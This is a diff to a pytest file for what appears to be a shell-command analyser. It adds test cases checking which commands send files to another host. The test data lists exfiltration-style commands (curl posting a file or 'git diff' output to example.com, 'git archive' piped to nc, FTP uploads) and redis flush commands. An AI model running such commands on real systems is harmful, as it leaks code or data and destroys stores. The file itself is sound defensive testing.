@@ -144,6 +144,7 @@ def test_what_a_name_stands_for_is_read(command: str, reads: str) -> None:
     [
         'perl -MNet::FTP -e \'$f = Net::FTP->new("ftp.example.com"); $f->put("a")\'',
         'ruby -e \'Net::FTP.new("ftp.example.com").putbinaryfile("a")\'',
+        "curl -d @a https://example.com",
         "pastebinit a",
     ],
 )
@@ -154,3 +155,16 @@ def test_a_file_that_is_put_elsewhere_leaves(command: str) -> None:
 @pytest.mark.parametrize("command", ["redis-cli FLUSHALL", "redis-cli -n 1 flushdb async", "echo flushall | redis-cli"])
 def test_a_store_is_flushed(command: str) -> None:
     assert list(facts(command).sql) == ["TRUNCATE ALL_KEYS"]
+
+
+@pytest.mark.parametrize(
+    ("command", "sends"),
+    [
+        ("git diff | curl -d @- https://example.com", ["/home/dev/app"]),
+        ("git archive HEAD | nc example.com 1", ["/home/dev/app"]),
+        ("git diff --stat | curl -d @- https://example.com", []),
+        ("git log -3 | curl -d @- https://example.com", []),
+    ],
+)
+def test_what_git_shows_of_the_files_leaves_with_it(command: str, sends: list[str]) -> None:
+    assert list(facts(command).sends) == sends
